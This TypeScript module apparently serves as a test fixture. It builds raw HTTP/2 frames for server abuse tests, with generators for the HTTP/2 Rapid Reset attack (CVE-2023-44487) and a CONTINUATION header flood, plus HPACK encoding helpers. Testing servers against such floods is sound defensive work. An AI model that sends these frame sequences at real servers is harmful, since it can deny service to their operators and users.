/**
 * Raw HTTP/2 frames (RFC 9113 §4, §6) for abuse tests: what a well-behaved
 * client library will not send — rapid HEADERS + RST_STREAM pairs, stream
 * floods, oversized header blocks — written as bytes onto a socket.
 */
export const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

const HEADERS = 0x1;
const RST_STREAM = 0x3;
const SETTINGS = 0x4;
const CONTINUATION = 0x9;
const END_STREAM = 0x1;
const END_HEADERS = 0x4;

export function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3);
  h[3] = type;
  h[4] = flags;
  h.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([h, payload]);
}

export function settings(): Buffer {
  return frame(SETTINGS, 0, 0, Buffer.alloc(0));
}

/** HPACK: a literal header field without indexing, new name (RFC 7541 §6.2.2), lengths < 127. */
function literal(name: string, value: string): Buffer {
  return Buffer.concat([Buffer.from([0x00, name.length]), Buffer.from(name), Buffer.from([value.length]), Buffer.from(value)]);
}

/** A GET request's header block: static-table `:method GET`, `:scheme http`, `:path /`, and a literal `:authority`. */
export function getHeaderBlock(authority: string): Buffer {
  return Buffer.concat([Buffer.from([0x82, 0x86, 0x84]), Buffer.from([0x41, authority.length]), Buffer.from(authority)]);
}

export function headers(streamId: number, block: Buffer, endStream = true): Buffer {
  return frame(HEADERS, END_HEADERS | (endStream ? END_STREAM : 0), streamId, block);
}

export function rstStream(streamId: number, code = 0x8 /* CANCEL */): Buffer {
  const p = Buffer.alloc(4);
  p.writeUInt32BE(code, 0);
  return frame(RST_STREAM, 0, streamId, p);
}

/** `count` streams each opened and at once reset (CVE-2023-44487), starting at stream `first` (odd). */
export function rapidReset(count: number, authority: string, first = 1): Buffer {
  const block = getHeaderBlock(authority);
  const out: Buffer[] = [];
  for (let i = 0, id = first; i < count; i++, id += 2) out.push(headers(id, block), rstStream(id));
  return Buffer.concat(out);
}

/** A header block split over `n` CONTINUATION frames of junk-named headers: an HPACK/CONTINUATION flood. */
export function continuationFlood(streamId: number, n: number, authority: string): Buffer {
  const out: Buffer[] = [frame(HEADERS, END_STREAM, streamId, getHeaderBlock(authority))];
  for (let i = 0; i < n; i++) out.push(frame(CONTINUATION, 0, streamId, literal(`x-flood-${i % 1000}`, 'a'.repeat(100))));
  return Buffer.concat(out);
}

export { literal as hpackLiteral };

/** HPACK: a literal header field with incremental indexing, new name (RFC 7541 §6.2.1); value length < 2^14. */
export function hpackIncremental(name: string, value: string): Buffer {
  const len = value.length;
  // Value length as an HPACK integer with a 7-bit prefix.
  const vlen = len < 127 ? Buffer.from([len]) : Buffer.from([127, ...varint(len - 127)]);
  return Buffer.concat([Buffer.from([0x40, name.length]), Buffer.from(name), vlen, Buffer.from(value)]);
}

function varint(n: number): number[] {
  const out: number[] = [];
  while (n >= 128) {
    out.push((n & 0x7f) | 0x80);
    n >>= 7;
  }
  out.push(n);
  return out;
}
